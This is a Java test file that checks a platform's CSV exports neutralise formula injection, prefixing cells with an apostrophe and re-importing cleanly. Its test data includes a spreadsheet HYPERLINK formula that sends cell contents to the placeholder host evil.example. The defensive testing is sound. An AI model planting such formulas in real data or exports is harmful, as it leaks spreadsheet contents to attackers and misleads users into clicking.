package dev.steward.vendors.security;

import dev.steward.testkit.console.PluginServiceTestBase;
import dev.steward.platform.export.ExportProgress;
import dev.steward.platform.files.UploadedFile;
import dev.steward.platform.people.ImportPlan;
import dev.steward.platform.people.ImportProgress;
import dev.steward.platform.people.PeopleDirectory;
import dev.steward.platform.people.PeopleImport;
import dev.steward.platform.security.Role;
import dev.steward.vendors.exports.DataSharingMatrix;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.jooq.DSLContext;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;

import java.io.ByteArrayOutputStream;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.UUID;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Issue 12: CSV formula injection. Whoever can name a catalogue entry (or a person) plants a formula; the exports
 * must never hand it to a spreadsheet as one, headers included, and the formula escape must not corrupt the data when
 * an exported file is imported again.
 */
class CsvInjectionAttackTest extends PluginServiceTestBase {

    @Autowired
    DSLContext dsl;
    @Autowired
    PeopleDirectory directory;
    @Autowired
    PeopleImport people;

    @Override
    protected String pluginId() {
        return "vendors";
    }

    @Test
    void a_catalogue_name_with_a_formula_becomes_a_neutralised_header_of_the_data_sharing_matrix() throws Exception {
        String formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\") " + UUID.randomUUID().toString().substring(0, 6);
        dsl.execute("insert into platform.catalog_entry (kind, code, name) values ('DATA_CATEGORY', ?, ?)",
                "evil-" + UUID.randomUUID().toString().substring(0, 8), formula);
        loginAs("olivia", Role.PRIVACY_OFFICER);
        ByteArrayOutputStream out = new ByteArrayOutputStream();

        bean(DataSharingMatrix.class).exportCsv(null, null, out, ExportProgress.NONE);

        String text = out.toString(StandardCharsets.UTF_8).substring(1); // after the byte-order mark
        var header = CSVParser.parse(new StringReader(text), CSVFormat.RFC4180).getRecords().getFirst().values();
        assertThat(header).contains("'" + formula).doesNotContain(formula);
        assertThat(header).allSatisfy(cell -> assertThat(cell).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("@"));
    }

    @Test
    void people_exported_with_formula_like_values_import_again_without_a_change() {
        loginAs("root", Role.ADMIN);
        String s = UUID.randomUUID().toString().substring(0, 6);
        String file = "employee_id,full_name,email,title,org_unit,manager_employee_id,status,start_date,end_date\n"
                + "F1-" + s + ",\"=HYPERLINK(\"\"https://evil.example\"\",\"\"x\"\")\",,+49 30 123,,,active,,\n"
                + "F2-" + s + ",-Minus Person,,@mention,,,active,,\n"
                + "F3-" + s + ",'s-Hertogenbosch Office,,'quoted title,,,active,,\n"
                + "F4-" + s + ",Plain Person,,-,,,active,,\n";
        ImportPlan created = people.prepare(file.getBytes(StandardCharsets.UTF_8), "first.csv", ImportProgress.NONE, () -> false);
        assertThat(created.errors()).isEmpty();
        people.commit(created);

        ByteArrayOutputStream exported = new ByteArrayOutputStream();
        directory.exportCsv(exported);
        assertThat(exported.toString(StandardCharsets.UTF_8)).contains("'=HYPERLINK", "'+49 30 123", "'-Minus Person", "'@mention",
                "''s-Hertogenbosch Office", "''quoted title");

        try (UploadedFile upload = UploadedFile.copyOf("people-export.csv", exported.toByteArray())) {
            ImportPlan again = people.prepare(upload.path(), upload.fileName(), ImportProgress.NONE, () -> false);
            assertThat(again.errors()).isEmpty();
            assertThat(again.preview().changes()).as("changes found in an unchanged export").isEmpty();
            assertThat(again.preview().added()).isZero();
            assertThat(again.preview().changed()).isZero();
        }
    }
}
